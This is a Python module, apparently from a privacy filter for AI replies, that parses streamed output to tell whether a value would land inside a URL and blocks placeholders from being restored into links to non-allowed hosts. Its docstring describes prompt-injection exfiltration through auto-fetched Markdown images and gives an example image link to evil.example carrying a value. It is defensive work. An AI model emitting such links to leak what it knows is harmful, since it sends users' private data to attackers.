"""Where a reply stands inside a link: a value put in there could leave with a click, or without.

A model that read hostile text may be told to answer with an image whose address carries what
it knows; a browser fetches it at once. So no value goes into an address, unless the purpose
allows the host::

    ![](https://evil.example/?q=PERSON_7Q3K)        stays as it is
    [file](https://intra.example/PERSON_7Q3K)       restored where `intra.example` is allowed
    PERSON_7Q3K, see https://evil.example           restored: outside

An address begins with a scheme and two slashes, with two slashes alone, with `www.`, or with
an escape of one of these; browsers also take backslashes, and `https:` without any slash. It
ends where its reader would end it: an attribute of HTML with its quote, a target of Markdown
with its bracket, others with white space. In JSON it ends at the latest with the string.

Reading errs on one side: what may be an address is one. An address relative to the page stays
on the operator's own server and is none; nor are `mailto:` and `tel:`, which a person sends.

Sources: WHATWG URL §4.4 (what browsers read as an address); CommonMark 0.31 §6.3 and §6.5
(targets, autolinks); OWASP LLM02:2025 and LLM05:2025 (exfiltration through rendered output).
"""

import re
from collections.abc import Set as AbstractSet
from enum import Enum
from typing import Final

_SLASHES = (r"\\u002f", r"&\#0{0,6}47;?", r"&\#x0{0,6}2f;?", "&sol;")
_BACKSLASHES = (r"\\u005c", r"&\#0{0,6}92;?", r"&\#x0{0,6}5c;?", "&bsol;")
_COLON = r"(?::|\\u003a|&\#0{0,6}58;?|&\#x0{0,6}3a;?|&colon;)"


def _begin(slash: str, backslash: str) -> re.Pattern[str]:
    """Return the pattern of how an address begins; JSON writes the two signs in its own way."""
    forward = "|".join((slash, *_SLASHES))
    either = "|".join((forward, backslash, *_BACKSLASHES))
    return re.compile(
        rf"""
          (?<![a-z0-9+.-])(?:
              (?:https?|wss?|ftp){_COLON}
            | [a-z][a-z0-9+.-]{{1,15}}{_COLON}(?:{either})
            | www\.
          )
        | (?:{forward}){{2}}
        | (?<=[="'(<])(?:{either}){{2}}
        | &\#(?:
              0{{0,6}}(?:104|72|102|70|119|87)(?![0-9])
            | x0{{0,6}}(?:68|48|66|46|77|57)(?![0-9a-f])
          )(?=\S)
        | &\#x?0{{7}}
        """,
        re.IGNORECASE | re.VERBOSE | re.ASCII,
    )


_MAY_BEGIN = re.compile(r"[:/\\&]|www\.", re.IGNORECASE)
_BEGIN_TEXT = _begin("/", r"\\")
_BEGIN_JSON = _begin(r"\\?/", r"\\\\")
"""The last lines: the first letter of `https`, `ftp`, `www`, `ws` as a reference of HTML, and a
reference with more noughts than anybody needs."""
_OPENER = re.compile(
    r"""=\s{0,4}(?P<attribute>\\?["'])\Z|[(:=]\s{0,4}(?P<angled><)\Z|(?P<bracket>\()\Z"""
    r"""|(?P<auto><)\Z|(?P<quote>\\?["'])\Z"""
)
_BEFORE: Final = 40
"""Characters kept of what stood before: enough for the beginning of an address and its opener."""
_HEAD: Final = 300
"""Characters of an address kept for its host; a name of DNS has 253 at most."""
_HOST = re.compile(
    r"https?:\\?/\\?/(?P<host>[a-z0-9](?:[a-z0-9.-]{0,251}[a-z0-9])?)(?::[0-9]{1,5})?(?:[/?\#]|\\/)",
    re.IGNORECASE,
)


class _End(Enum):
    """What ends an address, beside the end of a string of JSON."""

    SPACE = "<"
    """White space, or a tag."""
    QUOTED = '"'
    """White space, or the quote."""
    SINGLE = "'"
    AUTO = ">"
    """White space, or the bracket: an autolink."""
    BRACKET = ")"
    """White space, or the bracket that closes the one before it: a target of Markdown."""
    ANGLED = ">\n"
    """The bracket, or the line's end: a target of Markdown in brackets."""
    ATTRIBUTE = '="'
    """The quote only: browsers drop line ends from an attribute, and write spaces otherwise."""
    ATTRIBUTE_SINGLE = "='"
    STRING = ""
    """Only the end of the string of JSON that is all address."""


_ATTRIBUTES = (_End.ATTRIBUTE, _End.ATTRIBUTE_SINGLE)
_ENDS = {
    ("attribute", '"'): _End.ATTRIBUTE,
    ("attribute", "'"): _End.ATTRIBUTE_SINGLE,
    ("angled", "<"): _End.ANGLED,
    ("bracket", "("): _End.BRACKET,
    ("auto", "<"): _End.AUTO,
    ("quote", '"'): _End.QUOTED,
    ("quote", "'"): _End.SINGLE,
}


class Place(Enum):
    """Where the next value would stand."""

    OUTSIDE = "outside"
    ALLOWED = "allowed"
    """In an address whose host the purpose allows."""
    FORBIDDEN = "forbidden"


class Links:
    """Reads one text of a reply, in pieces, and knows whether it stands in an address."""

    __slots__ = ("_allowed", "_before", "_depth", "_end", "_escaping", "_head", "_json")

    def __init__(self, allowed: AbstractSet[str], *, json: bool) -> None:
        """`allowed` are host names in lower case; a host's subdomains are allowed with it."""
        self._allowed = allowed
        self._json = json
        self._before = ""
        """The end of what was read, outside."""
        self._head: str | None = None
        """The beginning of the address that is being read; None outside."""
        self._escaping = False
        """Whether what was read of it ends in a backslash that is not escaped itself."""
        self._end = _End.SPACE
        self._depth = 0
        """Round brackets open inside it."""

    @property
    def place(self) -> Place:
        """Where the next value would stand."""
        if self._head is None:
            return Place.OUTSIDE
        host = _HOST.match(self._head)
        if host is None:
            return Place.FORBIDDEN
        name = host["host"].lower()
        allowed = any(name == one or name.endswith(f".{one}") for one in self._allowed)
        return Place.ALLOWED if allowed else Place.FORBIDDEN

    def read(self, text: str) -> None:
        """Read the next piece of what the client will get."""
        while text:
            text = self._outside(text) if self._head is None else self._inside(text)

    def _outside(self, text: str) -> str:
        """Read up to the beginning of an address, and return what is left."""
        whole = self._before + text
        begin = None
        if _MAY_BEGIN.search(whole) is not None:
            begin = (_BEGIN_JSON if self._json else _BEGIN_TEXT).search(whole)
        if begin is None:
            self._before = whole[-_BEFORE:]
            return ""
        self._end = self._ending(whole[: begin.start()])
        self._head, self._depth = begin[0], 0
        self._escaping = (len(begin[0]) - len(begin[0].rstrip("\\"))) % 2 == 1
        return whole[begin.end() :]

    def _ending(self, before: str) -> "_End":
        """Return how an address ends that begins behind `before`."""
        opener = _OPENER.search(before)
        if opener is None:
            return _End.SPACE
        sign = opener[opener.lastgroup or 0]
        if self._json and sign == '"':
            return _End.STRING
        return _ENDS[opener.lastgroup or "", sign[-1]]

    def _inside(self, text: str) -> str:
        """Read up to the end of the address, and return what is left."""
        head = self._head or ""
        for at, sign in enumerate(text):
            if self._ends(sign):
                self._head, self._before = None, sign
                return text[at + 1 :]
            self._escaping = sign == "\\" and not self._escaping
        self._head = (head + text[:_HEAD])[:_HEAD]
        return ""

    def _ends(self, sign: str) -> bool:
        """Tell whether `sign` is the first character behind the address."""
        if self._json and sign == '"' and not self._escaping:
            return True
        if self._end is _End.STRING:
            return False
        if self._end in _ATTRIBUTES:
            return sign == str(self._end.value)[1]
        space = sign.isspace() or (self._json and self._escaping and sign in "nrt")
        if self._end is _End.ANGLED:
            return sign == ">" or (space and sign != " ")
        if self._end is _End.BRACKET:
            self._depth += 0 if self._escaping else (sign == "(") - (sign == ")")
            return space or self._depth < 0
        return space or sign == str(self._end.value)
